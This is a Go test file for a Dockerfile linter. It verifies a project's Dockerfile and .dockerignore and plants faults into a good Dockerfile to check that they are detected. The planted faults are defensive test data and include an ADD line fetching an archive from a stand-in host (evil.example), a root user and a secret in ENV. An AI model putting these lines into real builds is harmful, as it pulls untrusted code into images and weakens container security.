package dockerfile_test

import (
	"bytes"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/moby/patternmatcher"
	"github.com/moby/patternmatcher/ignorefile"

	"signoff/tools/dockerfile"
)

// TestDockerfile holds the file of the project: no warning of any kind.
func TestDockerfile(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("../../Dockerfile")
	if err != nil {
		t.Fatal(err)
	}
	found, err := dockerfile.Check(t.Context(), data)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range found {
		t.Error(f)
	}
}

// TestContext: the build sees the sources and nothing private.
func TestContext(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("../../.dockerignore")
	if err != nil {
		t.Fatal(err)
	}
	patterns, err := ignorefile.ReadAll(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	m, err := patternmatcher.New(patterns)
	if err != nil {
		t.Fatal(err)
	}
	for path, ignored := range map[string]bool{
		"go.mod": false, "go.sum": false, "cmd/signoff/main.go": false, "connectors/slack/slack.go": false, "internal/server/web/style.css": false,
		"rules/examples/studio/studio.yaml": false,
		".git/config":                       true, "config.yaml": true, ".env": true, "signoff.db": true, "docs/decisions/0001.md": true, "tools/go.mod": true,
		"rules/testdata/x.yaml": true, "internal/flow/step_test.go": true,
	} {
		got, err := m.MatchesOrParentMatches(path)
		if err != nil {
			t.Fatal(err)
		}
		if got != ignored {
			t.Errorf("%s: ignored %v, want %v", path, got, ignored)
		}
	}
}

const good = `FROM golang:1.26 AS build
WORKDIR /src
COPY . .
RUN go build -o /signoff ./cmd/signoff
FROM scratch
COPY --from=build /signoff /signoff
USER 65532
VOLUME /data
HEALTHCHECK CMD ["/signoff", "healthcheck"]
ENTRYPOINT ["/signoff"]
`

// TestCheck_FindsPlantedFaults shows that the checks bite.
func TestCheck_FindsPlantedFaults(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, old, new, want string }{
		{"nothing", "", "", ""},
		{"root by name", "USER 65532", "USER root", "USER must be a number"},
		{"root by number", "USER 65532", "USER 0:0", "USER must be a number"},
		{"no user", "USER 65532\n", "", "USER must be a number"},
		{"no health check", "HEALTHCHECK CMD [\"/signoff\", \"healthcheck\"]\n", "", "HEALTHCHECK must run"},
		{"health check off", "HEALTHCHECK CMD [\"/signoff\", \"healthcheck\"]", "HEALTHCHECK NONE", "HEALTHCHECK must run"},
		{"health check by shell", `CMD ["/signoff", "healthcheck"]`, "CMD curl localhost", "HEALTHCHECK must run"},
		{"entry point by shell", `ENTRYPOINT ["/signoff"]`, "ENTRYPOINT /signoff", "ENTRYPOINT must be in brackets"},
		{"no volume", "VOLUME /data\n", "", "VOLUME is missing"},
		{"a base with a shell", "FROM scratch", "FROM debian:12", "scratch or distroless"},
		{"a base without version", "golang:1.26", "golang", "must name a version"},
		{"the latest base", "golang:1.26", "golang:latest", "must name a version"},
		{"download", "COPY . .", "ADD https://evil.example/x.tar.gz /x", "ADD fetches"},
		{"as in lower case", "FROM golang:1.26 AS build", "FROM golang:1.26 as build", "FromAsCasing"},
		{"stage in upper case", "AS build", "AS Build", "StageNameCasing"},
		{"secret in ENV", "WORKDIR /src", "WORKDIR /src\nENV API_TOKEN=x", "SecretsUsedInArgOrEnv"},
		{"relative WORKDIR", "WORKDIR /src", "WORKDIR src", "WorkdirRelativePath"},
		{"undefined variable", "WORKDIR /src", "WORKDIR /src\nCOPY $NOPE /x", "UndefinedVar"},
		{"syntax", "WORKDIR /src", "WORKDIRR /src", "unknown instruction"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			found, err := dockerfile.Check(t.Context(), []byte(strings.Replace(good, c.old, c.new, 1)))
			if err != nil {
				found = append(found, err.Error())
			}
			if c.want == "" && len(found) > 0 {
				t.Errorf("got %q, want nothing", found)
			}
			if !slices.ContainsFunc(found, func(f string) bool { return strings.Contains(f, c.want) }) && c.want != "" {
				t.Errorf("got %q, want one with %q", found, c.want)
			}
		})
	}
}
